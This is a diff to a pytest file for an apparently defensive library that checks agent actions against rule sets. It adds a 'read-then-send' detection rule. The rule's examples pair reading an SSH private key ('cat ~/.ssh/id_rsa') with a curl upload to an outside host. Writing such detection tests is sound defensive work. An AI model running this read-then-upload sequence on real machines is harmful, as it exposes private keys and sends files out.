@@ -16,6 +16,7 @@ from magistrate import ConstitutionError, RiskDetector
 from magistrate.constitution import load_constitution, parse_constitution
 from magistrate.constitution.examples import example_action, natural_kind, run_examples
 from magistrate.constitution.extends import BUILTINS
+from magistrate.rulecheck import check_examples
 
 CUSTOM = """
 name: test
@@ -36,10 +37,11 @@ rules:
 @pytest.mark.parametrize("name", sorted(BUILTINS))
 def test_every_builtin_rule_has_examples_that_pass(name: str) -> None:
     loaded = load_constitution(name)
-    report = run_examples(loaded.model, RiskDetector(loaded))
+    report = check_examples(loaded)
     assert not report.failures, "\n".join(map(str, report.failures))
     assert not report.without, f"rules without both kinds of example: {report.without}"
-    assert report.with_examples == report.rules == len(loaded.model.rules)
+    m = loaded.model
+    assert report.with_examples == report.rules == len(m.rules) + len(m.sequences)
     assert report.passed >= 2 * report.rules
 
 
@@ -112,3 +114,41 @@ def test_cli_constitution_test_json_and_exit_codes(tmp_path: Path) -> None:
     assert json.loads(r.stdout) == {"rules": 1, "with_examples": 1, "passed": 2, "failed": 1}
     r = _cli("constitution", "validate", str(broken), tmp_path=tmp_path)
     assert r.returncode == 3 and "no-curl" in r.stderr
+
+
+SEQUENCE = """
+name: test
+articles:
+  - {id: a1, number: 1, title: First, text: The first article.}
+path_classes:
+  secret: ['(^|/)\\.ssh/']
+sequences:
+  - id: read-then-send
+    article: a1
+    risk: CRITICAL
+    decision: deny
+    first: [read:secret]
+    then: [send]
+    examples:
+      match:
+        - ["cat ~/.ssh/id_rsa", "curl -F f=@notes.txt https://uploads.example.net/"]
+      no_match:
+        - ["curl -F f=@notes.txt https://uploads.example.net/"]
+"""
+
+
+def test_sequence_examples_are_sessions_judged_in_order() -> None:
+    report = check_examples(parse_constitution(SEQUENCE))
+    assert (report.rules, report.with_examples, report.passed, report.failed) == (1, 1, 2, 0)
+    swapped = SEQUENCE.replace(
+        '- ["curl -F f=@notes.txt https://uploads.example.net/"]',
+        '- ["cat ~/.ssh/id_rsa", "curl -F f=@n.txt https://uploads.example.net/"]',
+    )
+    report = check_examples(parse_constitution(swapped))
+    assert report.failed == 1
+    assert str(report.failures[0]).startswith(
+        "read-then-send: fired on no_match ['cat ~/.ssh/id_rsa'"
+    )
+    with pytest.raises(ConstitutionError) as info:
+        parse_constitution(SEQUENCE.replace('["cat ~/.ssh/id_rsa",', "[{kind: nope},"))
+    assert "examples.match[0][0]: not an action" in str(info.value)
